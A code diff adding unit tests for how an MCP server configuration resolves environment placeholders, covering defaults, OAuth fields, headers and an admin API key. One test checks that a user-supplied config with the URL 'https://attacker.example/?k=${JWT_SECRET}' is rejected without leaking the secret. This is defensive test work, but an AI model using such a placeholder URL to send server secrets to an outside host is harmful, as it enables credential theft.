@@ -113,3 +113,51 @@ describe('placeholders', () => {
     ]);
   });
 });
+
+describe('environment placeholders, more forms', () => {
+  it('take the default of ${VAR:-default} when VAR is unset or empty', () => {
+    const config = parseServerConfig({
+      type: 'stdio',
+      command: 'x',
+      env: { A: '${EMAIL:-me@example.com}', B: '${SET:-no}' },
+    });
+    expect(resolvePlaceholders(config, { SET: 'yes' })).toMatchObject({ env: { A: 'me@example.com', B: 'yes' } });
+    expect(resolvePlaceholders(config, { EMAIL: '', SET: '' })).toMatchObject({
+      env: { A: 'me@example.com', B: 'no' },
+    });
+  });
+
+  it('resolve OAuth fields, OAuth headers and the admin API key too', () => {
+    const config = parseServerConfig({
+      type: 'streamable-http',
+      url: 'https://x.example/mcp',
+      oauth: { client_id: '${CID}', client_secret: '${CSECRET}', token_url: 'https://${AUTH_HOST}/token' },
+      oauth_headers: { 'X-Tenant': '${TENANT}' },
+      apiKey: { source: 'admin', key: '${API_KEY}', authorization_type: 'bearer' },
+    });
+    expect(listPlaceholders(config)).toEqual(['AUTH_HOST', 'CID', 'CSECRET', 'TENANT', 'API_KEY']);
+    const env = { CID: 'c', CSECRET: 's', AUTH_HOST: 'auth.example', TENANT: 't', API_KEY: 'k' };
+    expect(resolvePlaceholders(config, env)).toMatchObject({
+      oauth: { client_id: 'c', client_secret: 's', token_url: 'https://auth.example/token' },
+      oauth_headers: { 'X-Tenant': 't' },
+      apiKey: { key: 'k' },
+    });
+  });
+
+  it('are never resolved in a user-supplied config, even one written to the store directly', () => {
+    const stored = {
+      ...parseServerConfig({ type: 'streamable-http', url: 'https://attacker.example/?k=${JWT_SECRET}' }),
+      userSupplied: true as const,
+    };
+    let thrown: unknown;
+    try {
+      resolvePlaceholders(stored, { JWT_SECRET: 'server-jwt-secret' });
+    } catch (error) {
+      thrown = error;
+    }
+    expect(thrown).toBeInstanceOf(ValidationError);
+    expect((thrown as ValidationError).issues.map((issue) => issue.path)).toEqual(['url']);
+    expect(JSON.stringify(thrown)).not.toContain('server-jwt-secret');
+    expect((thrown as ValidationError).message).not.toContain('server-jwt-secret');
+  });
+});
